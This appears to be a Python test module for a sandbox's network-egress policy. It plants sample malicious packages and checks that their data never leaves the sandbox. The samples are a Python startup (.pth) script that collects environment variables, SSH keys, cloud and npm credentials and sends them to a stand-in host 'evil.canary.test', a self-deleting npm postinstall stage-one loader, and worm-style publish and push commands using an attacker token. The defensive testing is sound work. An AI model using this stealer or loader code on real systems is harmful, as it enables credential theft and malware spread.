# SPDX-License-Identifier: Apache-2.0
"""
Rows 141 to 143: malicious packages that collect data and send it out, by known methods: a file that
Python runs at start, an npm install script that fetches a second one and deletes itself, and a worm
that publishes itself. They are harmless here: the data are canaries. Each succeeds with a host that
the policy names, which is the control.
"""

import base64
import hashlib
import json
import os
import tempfile
from pathlib import Path

from boxes import WORLD, EgressCase, run
from sandbox import hutch

SECRET = "canary-4be1a0f6c2d9"
EVIL = "evil.canary.test"
# The behaviour of litellm 1.82.8 at every start of Python.
GATHER = """
import base64, glob, json, os, urllib.request
found = dict(os.environ)
for pattern in ('~/.ssh/*', '~/.aws/*', '~/.config/**', '~/.npmrc', '~/.netrc', '/root/.ssh/*', '/home/*/.ssh/*', '/run/secrets/*', '/proc/*/environ', '/etc/hostname'):
    for path in glob.glob(os.path.expanduser(pattern), recursive=True):
        try:
            found[path] = open(path, errors='replace').read(400)
        except OSError:
            pass
data = base64.urlsafe_b64encode(json.dumps(found).encode()).decode()
for host in HOSTS:
    try:
        urllib.request.urlopen(f'https://{host}/got?{data}', timeout=20).read()
    except OSError as e:
        print(host, type(e).__name__)
"""
INSTALL = """
const fs = require('fs'), https = require('https')
https.get('https://HOST/stage2', r => r.resume()).on('error', e => console.error(e.code)).on('close', () => {
  fs.writeFileSync('/tmp/stage1-ran', 'x')
  fs.unlinkSync(__filename)
})
"""


class Packages(EgressCase):
    def got(self):
        """Returns the data that the web server received in requests for /got."""
        return [json.loads(base64.urlsafe_b64decode(r["path"].partition("?")[2])) for r in WORLD("web")["requests"] if r["path"].startswith("/got?")]

    def plant(self, box, path, text):
        r = run(box, "sh", "-c", f'mkdir -p "$(dirname {path})" && cat >{path}', data=text)
        self.assertEqual(r.code, 0, r)

    def test_gathered_at_the_start_of_python(self):
        """It finds the sandbox's data and none of the caller's; no server receives it."""
        secrets = {"AWS_SECRET_ACCESS_KEY": SECRET, "NPM_TOKEN": SECRET, "GITHUB_TOKEN": SECRET}
        os.environ.update(secrets)
        self.addCleanup(lambda: [os.environ.pop(name) for name in secrets])
        box = self.box(["web.hutch.test"])
        site = run(box, "python3", "-c", "import site; print(site.getusersitepackages())").out.strip()
        self.plant(box, "/home/user/.ssh/id_ed25519", "of the sandbox")
        self.plant(box, f"{site}/gather.py", f"HOSTS = {[EVIL, 'other.hutch.test', '93.184.217.67']}\n{GATHER}")
        self.plant(box, f"{site}/gather.pth", "import gather\n")
        r = run(box, "python3", "-c", "print('program')")
        self.assertEqual(r.out.split(), [EVIL, "URLError", "other.hutch.test", "URLError", "93.184.217.67", "URLError", "program"], r)
        self.logged(box, name=EVIL, verdict="denied")
        self.assertEqual(self.got(), [])
        # The control: it does collect, and an allowed host is a way out.
        self.plant(box, f"{site}/gather.py", f"HOSTS = ['web.hutch.test']\n{GATHER}")
        run(box, "python3", "-c", "pass")
        [found] = self.got()
        self.assertEqual(found["/home/user/.ssh/id_ed25519"], "of the sandbox")
        self.assertIn("PATH", found)
        self.assertNotIn(SECRET, json.dumps(found))

    def test_run_at_an_installation(self):
        """Its second stage never arrives. The audit log shows what ran, though the file is
        deleted."""
        box = self.box(["web.hutch.test"])
        for host, code in ((EVIL, "ENOTFOUND"), ("web.hutch.test", "")):
            with tempfile.TemporaryDirectory() as top:
                package = Path(top) / "demo"
                package.mkdir()
                (package / "package.json").write_text(json.dumps({"name": "demo", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}))
                (package / "setup.js").write_text(INSTALL.replace("HOST", host))
                archive = Path(top) / "demo.tar"
                self.assertEqual(os.system(f"tar -C {top} -cf {archive} demo"), 0)
                os.chmod(top, 0o755)
                with open(archive, "rb") as f:
                    self.ended(hutch("exec", "-i", box, "--", "sh", "-c", "rm -rf /tmp/stage1-ran /tmp/in; mkdir /tmp/in; tar -C /tmp/in -xf -", stdin=f), 0)
                digest = hashlib.blake2b(archive.read_bytes(), digest_size=32).hexdigest()
            r = run(box, "sh", "-c", "cd /tmp/in/demo && npm install --offline --no-audit --no-fund --no-update-notifier --foreground-scripts --cache /tmp/in/cache 2>&1")
            self.assertEqual(r.code, 0, r)
            self.assertIn(code, r.out)
            self.assertEqual(run(box, "ls", "/tmp/stage1-ran", "/tmp/in/demo/setup.js").out, "/tmp/stage1-ran\n", "it ran, and is gone")
            said = hutch("audit", "show", "--json", "--sandbox", box).stdout.decode()
            self.assertIn(digest, said)
            self.assertIn("npm install --offline", said)
        stages = [r["host"] for r in WORLD("web")["requests"] if r["path"] == "/stage2"]
        self.assertEqual(stages, ["web.hutch.test"], "control")
        self.logged(box, name=EVIL, verdict="denied")

    def test_a_worm(self):
        """The worm has the attacker's token: no registry is reachable, and it finds no token of
        the sandbox's owner."""
        box = self.box(["web.hutch.test"])
        publish = "cd /tmp && mkdir -p worm && cd worm && echo '{{\"name\": \"worm\", \"version\": \"1.0.0\"}}' >package.json && " \
                  "npm publish --registry https://{0}/npm/ --//{0}/npm/:_authToken=attackers --fetch-retries=0 --loglevel=error 2>&1"
        push = "cd /tmp && rm -rf r && git init -q r && cd r && git -c user.name=w -c user.email=w@x commit -q --allow-empty -m worm && " \
               "git push -q https://x:attackers@{0}/git/demo.git HEAD:refs/heads/worm 2>&1"
        for script in (publish, push):
            r = run(box, "sh", "-c", script.format("npm.hutch.test"))
            self.assertNotEqual(r.code, 0, r)
            self.assertRegex(r.out, "ENOTFOUND|Could not resolve host")
        self.logged(box, name="npm.hutch.test", verdict="denied")
        self.assertEqual([r for r in WORLD("web")["requests"] if r["method"] in ("PUT", "POST")], [])
        self.ended(hutch("egress", "allow", box, "npm.hutch.test:443"), 0)
        self.assertEqual(run(box, "sh", "-c", push.format("npm.hutch.test")).code, 0, "control")
        run(box, "sh", "-c", publish.format("npm.hutch.test"))
        self.assertIn("PUT", [r["method"] for r in WORLD("web")["requests"]], "control")
